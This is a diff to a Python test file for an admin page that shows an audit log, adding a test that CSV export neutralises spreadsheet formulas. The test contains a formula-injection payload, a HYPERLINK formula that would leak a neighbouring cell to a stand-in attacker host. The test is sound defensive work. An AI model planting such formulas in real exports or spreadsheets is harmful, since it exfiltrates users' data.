@@ -12,6 +12,7 @@ from data import settings_store, users
 from data.db import close_db, get_db
 from data.plan import DEFAULT_WEIGHTS
 from data.scope import SYSTEM
+from tests.pages.downloads import capture_downloads, csv_rows
 
 # AppTest puts pages/ on sys.path when it runs a page directly, where pages/requests.py would
 # shadow the `requests` package that streamlit-authenticator imports: import it first.
@@ -50,6 +51,12 @@ def open_page(scope=ADMIN, **state) -> AppTest:
     for key, value in state.items():
         at.session_state[key] = value
     return at.run()
+
+
+
+@pytest.fixture
+def downloads(monkeypatch):
+    return capture_downloads(monkeypatch)
 
 
 def test_default_window_shows_the_last_30_days(app_db):
@@ -91,3 +98,18 @@ def test_a_unit_user_is_refused(app_db):
     at = open_page({"username": "finance", "role": "单位", "unit_id": unit_id, "display_name": "finance"})
     assert [e.value for e in at.error] == ["您的账号无权打开此页面。如需使用，请联系领导小组办公室。"]
     assert at.dataframe == []
+
+
+
+def test_csv_export_neutralises_formulas(app_db, downloads):
+    hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
+    app_db.rows("INSERT INTO audit_log (logged_at, username, action, target, detail) "
+                "VALUES (now()::TIMESTAMP, 'admin', '导入', ?, '-1+1')", [hostile])
+    at = open_page()
+    assert not at.exception
+    assert at.dataframe[0].value["对象"].tolist()[0] == hostile  # the page shows what was typed
+    (data,) = [v for k, v in downloads.items() if k.startswith("操作日志_")]
+    assert data.startswith(b"\xef\xbb\xbf")
+    rows = csv_rows(data)
+    assert rows[0] == ["时间", "用户", "操作", "对象", "说明", "变更前", "变更后"]
+    assert rows[1][2:5] == ["导入", "'" + hostile, "'-1+1"]
